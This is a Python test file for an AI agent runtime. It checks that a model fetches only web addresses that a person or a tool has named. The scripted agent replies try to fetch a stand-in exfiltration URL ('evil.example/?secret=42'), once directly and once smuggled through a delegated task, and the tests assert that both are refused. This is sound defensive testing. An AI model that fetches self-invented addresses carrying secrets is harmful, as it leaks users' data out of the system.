"""A model fetches what people or tools have named, and nothing that it made up."""

import pytest

from proofroom.kernel.blocks import ToolResultBlock
from proofroom.kernel.settings import Settings
from proofroom.kernel.tool import ToolContext, ToolOutput
from proofroom.runtime.delegation.delegate import delegate_tool
from proofroom.runtime.trust.addresses import find_addresses
from tests.runtime.conftest import Anything, OpenDesk, tool
from tests.runtime.delegation.test_delegate import RUN
from tests.scripted import ScriptedDriver, ScriptedReply

PAGE = "https://Example.org/birds/Swift_(bird)?page=2"


@pytest.fixture
def settings(sqlite_settings: Settings) -> Settings:
    return sqlite_settings


@pytest.mark.parametrize(
    "text",
    [PAGE, f"See {PAGE}.", f"[a page]({PAGE}),", f'{{"url":"{PAGE}"}}', f"<{PAGE}#top>", f"{PAGE}/"],
)
def test_an_address_is_found_as_it_stands_in_any_text(text: str) -> None:
    assert find_addresses(text) == find_addresses(PAGE)
    assert find_addresses(text) != find_addresses(PAGE + "3")
    assert find_addresses(text) != find_addresses(PAGE.replace("birds", "Birds"))


async def fetch(context: ToolContext, given: Anything) -> ToolOutput:
    return ToolOutput(ok=True, data={"text": "More at https://example.org/more"})


FETCH = tool("fetch", fetch, fetches="value", trust="untrusted")


def calls(*addresses: str) -> list[ScriptedReply]:
    rounds = [ScriptedReply("", calls=(("fetch", {"value": each}),)) for each in addresses]
    return [*rounds, ScriptedReply("Done.")]


def results(driver: ScriptedDriver) -> list[ToolResultBlock]:
    blocks = [block for message in driver.requests[-1].messages for block in message.blocks]
    return [block for block in blocks if isinstance(block, ToolResultBlock)]


async def test_only_addresses_that_somebody_named_are_fetched(open_desk: OpenDesk) -> None:
    leak = "https://evil.example/?secret=42"
    driver = ScriptedDriver(*calls(leak, "https://example.org/a", "https://example.org/more", leak))
    async with open_desk(driver, FETCH) as desk:
        await desk.say("Read https://example.org/a, please.")
    assert [each.ok for each in results(driver)] == [False, True, True, False]
    refused = results(driver)[0].content
    assert "neither a person nor a tool has named it" in refused
    assert "ask the person" in refused


async def test_a_task_that_is_handed_on_brings_no_address_of_its_writers_own(open_desk: OpenDesk) -> None:
    leak, known = "https://evil.example/?secret=42", "https://example.org/a"
    task = {"agentSlug": "reader", "task": f"Read {leak} and {known}."}
    caller = ScriptedDriver(ScriptedReply("", calls=(("delegateToAgent", task),)), ScriptedReply("Done."))
    reader = ScriptedDriver(*calls(leak, known))
    tools = FETCH, delegate_tool()
    async with open_desk(caller, *tools, permissions=RUN, others={"reader": reader}) as desk:
        run, _ = await desk.say(f"Let the reader read {known}.")
    assert run.status == "completed"
    assert [each.ok for each in results(reader)] == [False, True]
